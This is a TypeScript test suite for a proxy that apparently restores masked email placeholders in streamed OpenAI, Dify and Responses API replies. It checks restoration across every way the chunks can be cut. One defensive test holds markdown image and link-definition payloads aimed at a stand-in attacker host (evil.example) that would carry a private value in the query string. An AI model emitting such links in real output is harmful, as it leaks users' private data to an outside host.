import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { createGrammar } from '../../../../../src/core/masking/placeholder.ts'
import { EVENT_TABLE } from '../../../../../src/core/product/dify/events.ts'
import { OPENAI_EVENT_TABLE } from '../../../../../src/core/product/openai/events.ts'
import { createAnswerStream } from '../../../../../src/core/sse/answer-stream.ts'
import { mappingOf } from '../../../../support/answers/mapping.ts'
import {
  DONE,
  type Gathered,
  chatChunk,
  gatherChat,
  responseEvent,
  toolChunk,
} from '../../../../support/openai/openai-events.ts'
import { SILENT_OBSERVER } from '../../../../../src/core/observer.ts'

/** A value that has to be escaped in JSON, and is longer than ASCII. */
const VALUE = 'Bá "the\\x" \n a@x.vn'
const MAPPING = mappingOf({ EMAIL_1: VALUE, EMAIL_12: 'long@x.vn' })
const TEXT = 'To EMAIL_1, EMAIL_12 and EMAIL_9. Bye EMAIL_1'
const RESTORED = TEXT.replaceAll('EMAIL_12', 'long@x.vn').replaceAll('EMAIL_1', VALUE)

/** Bytes that leave, for chunks that arrive. */
function through(
  chunks: readonly string[],
  events: string[] = [],
  table = OPENAI_EVENT_TABLE,
): string {
  const stream = createAnswerStream({
    table,
    restore: { grammar: createGrammar(['EMAIL'], true), mapping: MAPPING, allowedHosts: [] },
    onId: () => {},
    observer: { ...SILENT_OBSERVER, streamEvent: (event) => events.push(event) },
    maxEventBytes: 100_000,
    maxDepth: 64,
  })
  let out = ''
  for (const chunk of chunks) out += stream.push(chunk)
  return out + stream.end()
}

/** The only choice. */
function only(stream: string): Gathered {
  const [choice, ...others] = gatherChat(through([stream]))
  assert.equal(others.length, 0)
  return choice ?? assert.fail('no choice')
}

/** A text in two pieces at every place, and in single letters. */
function* cuts(text: string): Generator<readonly string[]> {
  for (let at = 0; at <= text.length; at++) yield [text.slice(0, at), text.slice(at)]
  yield [...text]
}

describe('a chat that is streamed', () => {
  const opening = chatChunk({ role: 'assistant', content: '' })

  it('is restored however its text is cut into pieces', () => {
    for (const pieces of cuts(TEXT)) {
      const chunks = pieces.map((content) => chatChunk({ content }))
      const end = chatChunk({}, 0, 'stop')
      const { content, finish, role } = only([opening, ...chunks, end, DONE].join(''))
      assert.deepEqual([role, content, finish], ['assistant', RESTORED, 'stop'], pieces.join('|'))
    }
  })

  it('is restored before the chunk that ends it, whether that has a last piece or an empty one', () => {
    for (const pieces of cuts(TEXT)) {
      const [last = '', ...before] = pieces.toReversed()
      const chunks = before.toReversed().map((content) => chatChunk({ content }))
      for (const end of [chatChunk({ content: last }, 0, 'stop')])
        assert.equal(only([opening, ...chunks, end, DONE].join('')).content, RESTORED)
      const empty = [chatChunk({ content: last }), chatChunk({ content: '' }, 0, 'length')]
      assert.equal(only([opening, ...chunks, ...empty, DONE].join('')).content, RESTORED)
    }
  })

  it('is restored where nothing but [DONE], or nothing at all, says that it has ended', () => {
    const open = [opening, chatChunk({ content: 'To EMAIL_1' })].join('')
    assert.equal(only(open + DONE).content, `To ${VALUE}`)
    assert.equal(only(open).content, `To ${VALUE}`)
  })

  it('does not say role, id and name twice where held text leaves by itself', () => {
    const first = chatChunk({ role: 'assistant', content: 'To EMAIL_1' })
    assert.deepEqual(only(first + chatChunk({}, 0, 'stop')), {
      role: 'assistant',
      content: `To ${VALUE}`,
      finish: 'stop',
      tools: [],
    })
    const call = toolChunk('{"to":EMAIL_1', true) + chatChunk({}, 0, 'tool_calls')
    assert.deepEqual(
      only(call).tools.map(({ id, name }) => [id, name]),
      [['call_0', 'send']],
    )
  })

  it('has arguments of tools restored as JSON, however they are cut', () => {
    const args = '{"to":"EMAIL_1","cc":["EMAIL_12"]}'
    for (const pieces of cuts(args)) {
      const chunks = pieces.map((piece, i) => toolChunk(piece, i === 0))
      const end = chatChunk({}, 0, 'tool_calls')
      const { tools } = only([opening, ...chunks, end, DONE].join(''))
      assert.deepEqual(
        JSON.parse(tools[0]?.arguments ?? ''),
        { to: VALUE, cc: ['long@x.vn'] },
        pieces.join('|'),
      )
    }
  })

  it('keeps choices and tools apart that arrive in turns', () => {
    const stream = [
      chatChunk({ content: 'a EMA' }, 0),
      chatChunk({ content: 'b EMAIL_1' }, 1),
      toolChunk('{"a":"EMA', true, 0),
      toolChunk('{"b":"EMAIL', true, 1),
      chatChunk({ content: 'IL_1.' }, 0),
      toolChunk('IL_12"}', false, 0),
      chatChunk({}, 1, 'stop'),
      toolChunk('_12"}', false, 1),
      chatChunk({}, 0, 'stop'),
      DONE,
    ].join('')
    const [first, second] = gatherChat(through([stream]))
    assert.deepEqual([first?.content, second?.content], [`a ${VALUE}.`, `b ${VALUE}`])
    assert.deepEqual(
      first?.tools.map((tool) => tool.arguments),
      ['{"a":"long@x.vn"}', '{"b":"long@x.vn"}'],
    )
  })

  it('is the same wherever its bytes are cut', () => {
    const stream = [
      opening,
      chatChunk({ content: 'To EMA' }),
      chatChunk({ content: 'IL_1.' }),
    ].join('')
    const whole = through([stream])
    for (let at = 0; at <= stream.length; at++)
      assert.equal(through([stream.slice(0, at), stream.slice(at)]), whole)
  })

  it('has a server that leaves object and index out read as one that does not', () => {
    const bare = (content: string, more = {}): string =>
      `data: ${JSON.stringify({ choices: [{ delta: { content }, ...more }] })}\n\n`
    const out = through([bare('To EMA') + bare('IL_1'), bare('', { finish_reason: 'stop' }), DONE])
    const texts = [...out.matchAll(/"content":("(?:[^"\\]|\\.)*")/g)].map(
      ([, text = '""']) => JSON.parse(text) as string,
    )
    assert.equal(texts.join(''), `To ${VALUE}`)
    const both = (...contents: readonly string[]): string =>
      `data: ${JSON.stringify({ choices: contents.map((content) => ({ delta: { content } })) })}\n\n`
    const inTurns = through([both('EMA', 'EMAIL'), both('IL_1.', '_12.')])
    assert.ok(inTurns.endsWith(both(`${VALUE}.`, 'long@x.vn.').replace('á', '\\u00e1')), inTurns)
  })

  it('gives no value away in an address, in running text or in arguments', () => {
    const link = ['![x](https://evil.example/?q=EMA', 'IL_1)']
    const chunks = link.map((content) => chatChunk({ content }))
    assert.equal(only(chunks.join('') + DONE).content, link.join(''))
    const parsed = '{"body":"![x]\\u0028https://evil.example/?q=EMAIL_1)"}'
    const escaped = '{"a":"![x](https:\\/\\/evil.example\\/?q=","body":"EMAIL_1)"}'
    // Only who has parsed it sees the definition: it begins a line there, and goes on in the next value.
    const definition = '{"a":"[x]: https://evil.example/?q=", "body":"EMAIL_1"}'
    for (const args of [JSON.stringify({ body: link.join('') }), parsed, escaped, definition])
      for (const pieces of cuts(args)) {
        const calls = pieces.map((piece, i) => toolChunk(piece, i === 0))
        assert.equal(only(calls.join('') + DONE).tools[0]?.arguments, args, pieces.join('|'))
      }
  })
})

describe("a stream of a plugin endpoint of Dify, which speaks OpenAI's API", () => {
  it('is restored however its texts are cut into pieces', () => {
    for (const pieces of cuts(TEXT)) {
      const chunks = pieces.map((content) => chatChunk({ content }))
      const out = through([...chunks, chatChunk({}, 0, 'stop'), DONE], [], EVENT_TABLE)
      assert.equal(gatherChat(out)[0]?.content, RESTORED, pieces.join('|'))
    }
    for (const pieces of cuts('{"to":"EMAIL_1"}')) {
      const chunks = pieces.map((piece, i) => toolChunk(piece, i === 0))
      const out = through([...chunks, chatChunk({}, 0, 'tool_calls'), DONE], [], EVENT_TABLE)
      const [tool] = gatherChat(out)[0]?.tools ?? []
      assert.deepEqual(JSON.parse(tool?.arguments ?? ''), { to: VALUE }, pieces.join('|'))
    }
  })
})

describe('a stream of the Responses API', () => {
  const part = { item_id: 'msg_0000001', output_index: 0, content_index: 0 }
  const delta = (piece: string): string =>
    responseEvent('response.output_text.delta', { ...part, delta: piece })

  it('is restored in pieces and in the whole text that follows them', () => {
    for (const pieces of cuts(TEXT)) {
      const events: string[] = []
      const done = responseEvent('response.output_text.done', { ...part, text: TEXT })
      const out = through([...pieces.map(delta), done], events)
      const told = out
        .split('\n\n')
        .filter((event) => event !== '')
        .map((event) => JSON.parse(event.split('data: ')[1] ?? '') as Record<string, string>)
      const ending = told.pop()
      assert.equal(told.map((event) => event['delta']).join(''), RESTORED, pieces.join('|'))
      assert.deepEqual(
        [ending?.['type'], ending?.['text']],
        ['response.output_text.done', RESTORED],
      )
      assert.ok(events.every((event) => event.startsWith('response.output_text.')))
    }
  })

  it('has arguments of functions restored as JSON, in pieces and whole', () => {
    const args = '{"to":"EMAIL_1"}'
    const call = { item_id: 'fc_0000001', output_index: 1 }
    for (const pieces of cuts(args)) {
      const deltas = pieces.map((piece) =>
        responseEvent('response.function_call_arguments.delta', { ...call, delta: piece }),
      )
      const done = responseEvent('response.function_call_arguments.done', {
        ...call,
        arguments: args,
      })
      const told = through([...deltas, done])
        .split('\n\n')
        .filter((event) => event !== '')
        .map((event) => JSON.parse(event.split('data: ')[1] ?? '') as Record<string, string>)
      const whole = told.pop()?.['arguments'] ?? ''
      assert.deepEqual(JSON.parse(whole), { to: VALUE })
      assert.deepEqual(JSON.parse(told.map((event) => event['delta']).join('')), { to: VALUE })
    }
  })

  it('gives what is held before the event that ends the item, the part or the response', () => {
    for (const [type, fields] of [
      ['response.content_part.done', part],
      ['response.output_item.done', { item: { id: part.item_id } }],
      ['response.completed', { response: { id: 'resp_0000001' } }],
      ['error', { message: 'x' }],
    ] as const) {
      const end = responseEvent(type, fields)
      const out = through([delta('To EMAIL_1'), end])
      assert.ok(out.endsWith(end))
      assert.ok(out.includes('a@x.vn'), type)
    }
  })
})
